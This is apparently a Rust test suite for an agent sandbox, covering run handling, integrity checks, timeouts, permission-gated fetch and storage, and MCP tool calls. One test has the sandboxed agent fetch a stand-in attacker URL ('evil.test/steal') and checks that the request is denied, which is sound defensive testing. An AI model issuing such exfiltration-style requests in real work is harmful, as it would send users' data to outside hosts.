use std::sync::Arc;
use std::time::Duration;

use agentpack_core::config::{McpConfig, SandboxConfig};
use agentpack_core::{Manifest, McpServerEntry, Package, UiVariant};
use agentpack_sandbox::{
    AgentEndpoint, ChannelLauncher, McpState, SandboxError, SandboxSession, SessionOptions,
    SessionState,
};
use serde_json::{json, Value};
use wiremock::matchers::{body_partial_json, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const CODE: &str = "class Agent { run(input) { return input; } }";

fn options() -> SessionOptions {
    SessionOptions {
        sandbox: SandboxConfig {
            ready_timeout: Duration::from_secs(2),
            run_timeout: Duration::from_secs(2),
            ..SandboxConfig::default()
        },
        mcp: McpConfig::default(),
    }
}

fn artifact(manifest: &Manifest, memory: Option<Value>) -> String {
    Package::create(manifest, CODE, memory.as_ref(), None, UiVariant::None).unwrap()
}

/// Replies `{"echo": input}` to every run.
fn echo_agent() -> ChannelLauncher {
    ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            while let Some(msg) = ep.recv().await {
                if msg["method"] == "run" {
                    ep.send(json!({"id": msg["id"], "result": {"echo": msg["input"]}}));
                }
            }
        });
    })
}

/// Each run input is `{"method", "params"}`: the agent issues that capability
/// request and returns the raw capability reply as its result.
fn capability_agent() -> ChannelLauncher {
    ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            let mut next_call = 0u64;
            while let Some(msg) = ep.recv().await {
                if msg["method"] != "run" {
                    continue;
                }
                next_call += 1;
                ep.send(json!({
                    "call": next_call,
                    "method": msg["input"]["method"],
                    "params": msg["input"]["params"],
                }));
                let reply = loop {
                    match ep.recv().await {
                        Some(r) if r["call"] == next_call => break r,
                        Some(_) => continue,
                        None => return,
                    }
                };
                ep.send(json!({"id": msg["id"], "result": reply}));
            }
        });
    })
}

async fn capability(session: &SandboxSession, method: &str, params: Value) -> Value {
    session
        .run(json!({"method": method, "params": params}))
        .await
        .unwrap()
}

#[tokio::test]
async fn test_run_round_trips_through_the_context() {
    let launcher = echo_agent();
    let session = SandboxSession::load_with(&artifact(&Manifest::new("echo"), None), &launcher, options())
        .await
        .unwrap();

    session.wait_ready().await.unwrap();
    assert!(session.is_ready());
    assert_eq!(session.state(), SessionState::Ready);
    assert_eq!(session.agent_id(), "echo");

    let out = session.run(json!({"q": 1})).await.unwrap();
    assert_eq!(out, json!({"echo": {"q": 1}}));
    assert_eq!(session.state(), SessionState::Ready);
    assert_eq!(launcher.launches(), 1);
}

#[tokio::test]
async fn test_concurrent_runs_resolve_by_id() {
    // Collects two runs, then answers them in reverse order.
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            let mut held = Vec::new();
            while let Some(msg) = ep.recv().await {
                held.push(msg);
                if held.len() == 2 {
                    for m in held.drain(..).rev() {
                        let n = m["input"].as_i64().unwrap();
                        ep.send(json!({"id": m["id"], "result": n * 10}));
                    }
                }
            }
        });
    });
    let session = SandboxSession::load_with(&artifact(&Manifest::new("c"), None), &launcher, options())
        .await
        .unwrap();

    let (a, b) = tokio::join!(session.run(json!(1)), session.run(json!(2)));
    assert_eq!(a.unwrap(), json!(10));
    assert_eq!(b.unwrap(), json!(20));
    assert_eq!(session.state(), SessionState::Ready);
}

#[tokio::test]
async fn test_runs_issued_before_ready_are_queued() {
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(100)).await;
            ep.send(json!({"ready": true}));
            ep.send(json!({"ready": true}));
            while let Some(msg) = ep.recv().await {
                ep.send(json!({"id": msg["id"], "result": "late but fine"}));
            }
        });
    });
    let session = SandboxSession::load_with(&artifact(&Manifest::new("q"), None), &launcher, options())
        .await
        .unwrap();
    assert_eq!(session.state(), SessionState::Initializing);

    let out = session.run(json!(null)).await.unwrap();
    assert_eq!(out, json!("late but fine"));
    assert_eq!(session.state(), SessionState::Ready);
}

#[tokio::test]
async fn test_missing_ready_signal_times_out() {
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move { while ep.recv().await.is_some() {} });
    });
    let mut opts = options();
    opts.sandbox.ready_timeout = Duration::from_millis(100);
    let session = SandboxSession::load_with(&artifact(&Manifest::new("slow"), None), &launcher, opts)
        .await
        .unwrap();

    let err = session.run(json!(1)).await.unwrap_err();
    assert!(matches!(err, SandboxError::NotReady(_)));
}

#[tokio::test]
async fn test_tampered_artifact_never_launches() {
    let launcher = echo_agent();
    let tampered = artifact(&Manifest::new("t"), None).replace("return input;", "return 42;");

    let err = SandboxSession::load_with(&tampered, &launcher, options())
        .await
        .err()
        .unwrap();
    assert!(matches!(err, SandboxError::Integrity { ref sections } if sections == &vec!["code"]));
    assert_eq!(launcher.launches(), 0);

    let err = SandboxSession::load_with("<html><body>nothing</body></html>", &launcher, options())
        .await
        .err()
        .unwrap();
    assert!(matches!(err, SandboxError::Package(_)));
    assert_eq!(launcher.launches(), 0);
}

#[tokio::test]
async fn test_agent_errors_and_timeouts_fail_only_that_run() {
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            while let Some(msg) = ep.recv().await {
                match msg["input"].as_str() {
                    Some("fail") => {
                        ep.send(json!({"id": msg["id"], "error": "nope"}));
                    }
                    Some("hang") => {}
                    _ => {
                        ep.send(json!({"id": msg["id"], "result": "ok"}));
                    }
                }
            }
        });
    });
    let mut opts = options();
    opts.sandbox.run_timeout = Duration::from_millis(150);
    let session = SandboxSession::load_with(&artifact(&Manifest::new("e"), None), &launcher, opts)
        .await
        .unwrap();

    let err = session.run(json!("fail")).await.unwrap_err();
    assert!(matches!(err, SandboxError::Remote(ref m) if m == "nope"));

    let err = session.run(json!("hang")).await.unwrap_err();
    assert!(matches!(err, SandboxError::Timeout { .. }));

    assert_eq!(session.run(json!("go")).await.unwrap(), json!("ok"));
    assert_eq!(session.state(), SessionState::Ready);
}

#[tokio::test]
async fn test_denied_fetch_fails_locally() {
    let mut manifest = Manifest::new("net");
    manifest.permissions.network = vec!["example.com".to_string()];
    let launcher = capability_agent();
    let session = SandboxSession::load_with(&artifact(&manifest, None), &launcher, options())
        .await
        .unwrap();

    let reply = capability(&session, "fetch", json!({"url": "https://evil.test/steal"})).await;
    assert!(reply.get("result").is_none());
    assert!(reply["error"].as_str().unwrap().contains("permission denied"));

    // Session unaffected.
    let reply = capability(&session, "no/such", json!({})).await;
    assert!(reply["error"].as_str().unwrap().contains("unknown capability"));
    assert_eq!(session.state(), SessionState::Ready);
}

#[tokio::test]
async fn test_allowed_fetch_goes_through_gateway() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/data"))
        .respond_with(ResponseTemplate::new(201).set_body_string("stored"))
        .expect(1)
        .mount(&server)
        .await;

    let mut manifest = Manifest::new("net");
    manifest.permissions.network = vec!["127.0.0.1".to_string()];
    let launcher = capability_agent();
    let session = SandboxSession::load_with(&artifact(&manifest, None), &launcher, options())
        .await
        .unwrap();

    let reply = capability(
        &session,
        "fetch",
        json!({"url": format!("{}/data", server.uri()), "method": "post", "body": "x"}),
    )
    .await;
    assert_eq!(reply["result"]["status"], 201);
    assert_eq!(reply["result"]["body"], "stored");
}

#[tokio::test]
async fn test_storage_is_seeded_from_memory_and_gated() {
    let mut manifest = Manifest::new("mem");
    manifest.permissions.storage = true;
    let launcher = capability_agent();
    let session = SandboxSession::load_with(
        &artifact(&manifest, Some(json!({"count": 1}))),
        &launcher,
        options(),
    )
    .await
    .unwrap();

    let reply = capability(&session, "storage/get", json!({"key": "count"})).await;
    assert_eq!(reply["result"], 1);
    capability(&session, "storage/set", json!({"key": "count", "value": 2})).await;
    let reply = capability(&session, "storage/delete", json!({"key": "missing"})).await;
    assert_eq!(reply["result"], false);
    assert_eq!(session.storage().get("count"), Some(&json!(2)));

    let locked = capability_agent();
    let session = SandboxSession::load_with(
        &artifact(&Manifest::new("locked"), Some(json!({"secret": true}))),
        &locked,
        options(),
    )
    .await
    .unwrap();
    let reply = capability(&session, "storage/get", json!({"key": "secret"})).await;
    assert!(reply["error"].as_str().unwrap().contains("permission denied"));
}

#[tokio::test]
async fn test_context_exit_fails_runs_with_exited() {
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            // Crash on the first message.
            let _ = ep.recv().await;
        });
    });
    let session = SandboxSession::load_with(&artifact(&Manifest::new("crash"), None), &launcher, options())
        .await
        .unwrap();

    let err = session.run(json!(1)).await.unwrap_err();
    assert!(matches!(err, SandboxError::Exited));
    assert_eq!(session.state(), SessionState::Error);
    assert!(matches!(session.run(json!(2)).await.unwrap_err(), SandboxError::Exited));
}

#[tokio::test]
async fn test_close_fails_in_flight_runs() {
    let launcher = ChannelLauncher::new(|mut ep: AgentEndpoint| {
        tokio::spawn(async move {
            ep.send(json!({"ready": true}));
            while ep.recv().await.is_some() {}
        });
    });
    let session = Arc::new(
        SandboxSession::load_with(&artifact(&Manifest::new("bye"), None), &launcher, options())
            .await
            .unwrap(),
    );
    session.wait_ready().await.unwrap();

    let runner = Arc::clone(&session);
    let in_flight = tokio::spawn(async move { runner.run(json!("never answered")).await });
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert_eq!(session.state(), SessionState::Running(1));

    session.close().await;
    let err = in_flight.await.unwrap().unwrap_err();
    assert!(matches!(err, SandboxError::Closed));
    assert_eq!(session.state(), SessionState::Closed);
    assert!(matches!(session.run(json!(1)).await.unwrap_err(), SandboxError::Closed));
}

async fn mount_mcp(server: &MockServer) {
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "initialize"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 1,
            "result": {"serverInfo": {"name": "calc", "version": "1"}}
        })))
        .expect(1)
        .mount(server)
        .await;
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "tools/list"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 2,
            "result": {"tools": [{"name": "add", "inputSchema": {"type": "object"}}]}
        })))
        .mount(server)
        .await;
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "tools/call", "params": {"name": "add"}})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 3,
            "result": {"content": [{"type": "text", "text": "3"}]}
        })))
        .mount(server)
        .await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(202))
        .mount(server)
        .await;
}

#[tokio::test]
async fn test_mcp_starts_lazily_once_and_skips_dead_servers() {
    let server = MockServer::start().await;
    mount_mcp(&server).await;

    let mut manifest = Manifest::new("mcp");
    manifest.mcp.servers = vec![
        McpServerEntry {
            name: "dead".to_string(),
            url: "http://127.0.0.1:9/mcp".to_string(),
            token: None,
        },
        McpServerEntry {
            name: "calc".to_string(),
            url: server.uri(),
            token: None,
        },
    ];
    let launcher = capability_agent();
    let session = SandboxSession::load_with(&artifact(&manifest, None), &launcher, options())
        .await
        .unwrap();
    assert_eq!(session.mcp_state(), McpState::Pending);

    let reply = capability(&session, "mcp/callTool", json!({"name": "add", "arguments": {"a": 1, "b": 2}})).await;
    assert_eq!(session.mcp_state(), McpState::Ready);
    assert_eq!(reply["result"]["content"][0]["text"], "3");

    let reply = capability(&session, "mcp/listTools", json!({})).await;
    assert_eq!(reply["result"], json!([{"server": "calc", "tool": {"name": "add", "inputSchema": {"type": "object"}}}]));

    let reply = capability(&session, "mcp/callTool", json!({"name": "missing"})).await;
    assert!(reply["error"].as_str().unwrap().contains("missing"));

    let tools = session.mcp_tools().await;
    assert_eq!(tools.len(), 1);
    session.close().await;
}

#[tokio::test]
async fn test_mcp_disabled_without_servers() {
    let launcher = capability_agent();
    let session = SandboxSession::load_with(&artifact(&Manifest::new("plain"), None), &launcher, options())
        .await
        .unwrap();
    assert_eq!(session.mcp_state(), McpState::Disabled);
    let reply = capability(&session, "mcp/listTools", json!({})).await;
    assert_eq!(reply["result"], json!([]));
    assert_eq!(session.mcp_state(), McpState::Disabled);
}
